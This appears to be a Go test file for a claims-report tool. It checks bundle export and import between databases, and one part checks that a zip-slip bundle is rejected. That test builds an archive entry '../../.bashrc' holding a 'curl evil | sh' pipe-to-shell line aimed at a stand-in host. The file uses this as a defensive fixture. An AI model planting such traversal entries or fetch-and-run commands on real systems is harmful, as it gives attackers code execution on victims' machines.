package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	rpt "claimdesk/report"
)

func TestBundleBetweenDatabases(t *testing.T) {
	dbA, _, _ := exportDB(t)
	dbB := newDB(t)
	dir := t.TempDir()
	za, zb := filepath.Join(dir, "a.zip"), filepath.Join(dir, "b.zip")
	mustRun(t, dbA, "export", "--format", "bundle", "--out", za)
	out := mustRun(t, dbB, "import-bundle", za)
	if !strings.Contains(out, "created    ") || strings.Contains(out, "created    0") || !strings.Contains(out, "snapshots  1") {
		t.Errorf("first import:\n%s", out)
	}
	var res struct{ Created, Updated, Kept, Snapshots int }
	decode(t, mustRun(t, dbB, "import-bundle", za, "--format", "json"), &res)
	if res.Created != 0 || res.Updated != 0 || res.Kept != 0 || res.Snapshots != 0 {
		t.Errorf("second import changed something: %+v", res)
	}
	mustRun(t, dbB, "export", "--format", "bundle", "--out", zb)
	a, b := bundleDataset(t, za), bundleDataset(t, zb)
	if !reflect.DeepEqual(a, b) {
		ja, _ := json.Marshal(a)
		jb, _ := json.Marshal(b)
		t.Errorf("the records differ after the round trip:\n%s\n%s", ja, jb)
	}

	// A bundle with a zip-slip entry is refused with one clear line.
	evil := filepath.Join(dir, "evil.zip")
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("../../.bashrc")
	io.WriteString(w, "curl evil | sh")
	zw.Close()
	if err := os.WriteFile(evil, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	r := claimctl(t, dbB, "import-bundle", evil)
	if r.code != 2 || !strings.Contains(r.stderr, "zip slip") {
		t.Errorf("evil bundle: exit %d, stderr %q", r.code, r.stderr)
	}
}

// bundleDataset reads the records of a bundle file.
func bundleDataset(t *testing.T, path string) any {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	bundle, err := rpt.ReadBundle(context.Background(), bytes.NewReader(b), int64(len(b)), rpt.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	// The records only: which versions the sender knew, and whether an
	// event was imported, differ between sender and receiver by design.
	ds := bundle.Document.Dataset
	ds.Versions = nil
	for _, ev := range ds.Events {
		ev.Imported = false
	}
	return ds
}
